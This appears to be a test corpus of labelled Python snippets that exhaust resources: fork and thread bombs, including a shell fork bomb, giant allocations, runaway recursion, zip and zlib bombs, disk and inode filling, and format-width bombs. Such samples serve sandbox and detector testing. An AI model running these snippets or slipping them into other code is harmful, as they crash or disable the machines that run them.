#--- fork-bomb: the classic
import os
while True:
    os.fork()
#--- fork-bomb-recursive: a function that forks itself
import os
def f():
    os.fork()
    f()
f()
#--- fork-bomb-shell: the shell's spelling
import os
os.system(":(){ :|:& };:")
#--- fork-bomb-self: the program starts itself
import subprocess, sys
while True:
    subprocess.Popen([sys.executable, __file__])
#--- fork-bomb-multiprocessing: processes without end
from multiprocessing import Process
def go():
    while True:
        Process(target=go).start()
go()
#--- thread-bomb: threads without end
import threading
def spin():
    while True:
        pass
while True:
    threading.Thread(target=spin).start()
#--- thread-bomb-recursive: every thread starts two
import threading
def go():
    for _ in range(2):
        threading.Thread(target=go).start()
go()
#--- list-of-range: a huge range made a list
x = list(range(10**12))
#--- list-of-range-renamed: the same by parts
n = 10**6
m = n * n
data = list(range(m))
#--- tuple-of-range: a huge range made a tuple
t = tuple(range(0, 10**11))
#--- set-of-range: a huge range made a set
s = set(range(10_000_000_000))
#--- sorted-range: a huge range sorted
sorted(range(10**11), reverse=True)
#--- star-range: a huge range unpacked
x = [*range(10**11)]
#--- comprehension-range: a huge comprehension
squares = [i * i for i in range(10**11)]
#--- dict-comprehension-range: a huge dictionary
d = {i: str(i) for i in range(10**11)}
#--- join-range: a huge text
s = "".join(str(i) for i in range(10**12))
#--- nested-comprehension: three loops of ten thousand
grid = [[[0 for a in range(10**4)] for b in range(10**4)] for c in range(10**4)]
#--- list-multiplied: a huge list by multiplication
x = [0] * 10**11
#--- list-multiplied-twice: two large factors
x = [[0] * 10**6] * 10**6
y = [list(r) for r in x]
#--- string-multiplied: a huge text by multiplication
s = "A" * (1024 ** 4)
#--- string-multiplied-shift: the size by a shift
s = "A" * (1 << 40)
#--- bytes-huge: a huge bytes object
b = bytes(10**12)
#--- bytearray-huge: a huge bytearray
buf = bytearray(1 << 42)
#--- power-tower: a power of a power
n = 9 ** 9 ** 9
#--- power-huge-exponent: a huge exponent
n = 2 ** (10 ** 11)
#--- power-pow-function: pow with two arguments
n = pow(10, 10**10)
#--- power-by-loop: squared again and again
n = 2
for _ in range(64):
    n = n * n
print(n)
#--- shift-huge: one shifted very far
n = 1 << (1 << 40)
#--- factorial-huge: a huge factorial
import math
math.factorial(10**9)
#--- int-to-str-huge: a huge number as text
import sys
sys.set_int_max_str_digits(0)
print(str(7 ** (10 ** 9)))
#--- recursion-no-base: no way out
def f(n):
    return f(n + 1)
f(0)
#--- recursion-limit-raised: the limit raised, then no way out
import sys
sys.setrecursionlimit(10**9)
def f():
    return f() + 1
f()
#--- recursion-mutual: two functions without a way out
def a(n):
    return b(n)
def b(n):
    return a(n)
a(1)
#--- recursion-lambda: a lambda without a way out
f = lambda x: f(x)
f(1)
#--- recursion-repr: a repr that calls itself
class A:
    def __repr__(self):
        return repr(self)
print(A())
#--- recursion-getattr: an attribute lookup that calls itself
class A:
    def __getattr__(self, name):
        return getattr(self, name)
A().x
#--- recursion-except: the error starts it again
import sys
sys.setrecursionlimit(2**31 - 1)
def f():
    try:
        f()
    except RecursionError:
        f()
    finally:
        f()
f()
#--- growth-append: a list grows for ever
x = []
while True:
    x.append("A" * 1000)
#--- growth-extend-self: a list doubled for ever
x = [0]
while 1:
    x.extend(x)
#--- growth-add: a list doubled by plus
x = [1]
while True:
    x = x + x
#--- growth-string: a text doubled for ever
s = "x"
while True:
    s += s
#--- growth-dict: a dictionary grows for ever
d, i = {}, 0
while True:
    d[i] = bytes(1024)
    i += 1
#--- growth-iterating: a list grows while it is looped
x = [1]
for v in x:
    x.append(v)
#--- growth-for-count: an endless counter kept
import itertools
keep = []
for i in itertools.count():
    keep.append([i] * 100)
#--- growth-list-of-count: an endless counter made a list
import itertools
list(itertools.count())
#--- growth-list-of-cycle: an endless cycle made a list
from itertools import cycle
x = list(cycle([1, 2]))
#--- growth-list-of-repeat: an endless repeat summed to a list
import itertools as it
x = [*it.repeat(b"0" * 4096)]
#--- growth-generator: an own endless generator made a list
def gen():
    while True:
        yield 0
x = list(gen())
#--- growth-iter-sentinel: an endless iter made a list
x = list(iter(int, 1))
#--- growth-deque: a queue grows for ever
from collections import deque
q = deque()
while True:
    q.append(q.copy())
#--- growth-cache: a cache without bounds
from functools import lru_cache
@lru_cache(maxsize=None)
def f(i):
    return bytes(10**6)
i = 0
while True:
    f(i)
    i += 1
#--- growth-doubling-loop: doubled sixty-four times
s = "boom"
for _ in range(64):
    s = s * 2
#--- product-huge: all combinations made a list
import itertools
x = list(itertools.product(range(100), repeat=8))
#--- permutations-huge: all orders made a list
from itertools import permutations
x = list(permutations(range(20)))
#--- numpy-zeros-huge: a huge array
import numpy as np
a = np.zeros((10**6, 10**6))
#--- numpy-arange-huge: a huge row
import numpy as np
a = np.arange(10**12)
#--- numpy-ones-copy-huge: a huge array of ones
import numpy
b = numpy.ones(1 << 40, dtype="float64")
#--- pandas-frame-huge: a huge frame
import pandas as pd
df = pd.DataFrame({"a": range(10**11)})
#--- zip-bomb-write: a zip bomb made
import zipfile
with zipfile.ZipFile("b.zip", "w", zipfile.ZIP_DEFLATED) as z:
    for i in range(1000):
        z.writestr(f"{i}.txt", b"0" * 10**9)
#--- zip-bomb-nested: zips in zips
import io, zipfile
data = b"0" * 10**10
for level in range(10):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(16):
            z.writestr(str(i), data)
    data = buf.getvalue()
#--- zlib-bomb: a small text that grows
import zlib
bomb = zlib.compress(b"0" * 10**11)
zlib.decompress(bomb)
#--- disk-fill: a file grows for ever
with open("fill.bin", "wb") as f:
    while True:
        f.write(b"\0" * (1 << 20))
#--- disk-fill-once: one huge write
open("big", "wb").write(b"x" * (1 << 40))
#--- disk-fill-sparse: a huge hole
with open("hole", "wb") as f:
    f.seek(1 << 50)
    f.write(b"x")
#--- inode-bomb: files without end
i = 0
while True:
    open(f"f{i}", "w").close()
    i += 1
#--- directory-bomb: directories ever deeper
import os
p = "d"
while True:
    p = os.path.join(p, "d")
    os.makedirs(p, exist_ok=True)
#--- output-flood: text without end
while True:
    print("x" * 10**6)
#--- open-files-bomb: every file kept open
keep = []
while True:
    keep.append(open("/tmp/x", "w"))
#--- busy-threads: one busy loop for each processor
import os, threading
def burn():
    n = 0
    while True:
        n += 1
for _ in range(os.cpu_count() * 100):
    threading.Thread(target=burn, daemon=True).start()
#--- asyncio-task-bomb: tasks without end
import asyncio
async def f():
    while True:
        asyncio.create_task(f())
        await asyncio.sleep(0)
asyncio.run(f())
#--- exec-nested-brackets: a parser bomb
eval("(" * 10**6 + ")" * 10**6)
#--- format-width-bomb: a huge field width
print("{:>99999999999}".format(1))
#--- percent-width-bomb: a huge field width by percent
print("%999999999999d" % 1)
#--- fstring-width-bomb: a huge field width by f-string
print(f"{0:0{10**11}d}")
#--- ljust-bomb: a huge field width by a method
s = "x".ljust(10**12)
#--- decimal-precision-bomb: a huge precision
from decimal import Decimal, getcontext
getcontext().prec = 10**9
print(Decimal(2).sqrt())
#--- semaphore-deadlock-threads: threads that never end
import threading
lock = threading.Lock()
lock.acquire()
while True:
    threading.Thread(target=lock.acquire).start()
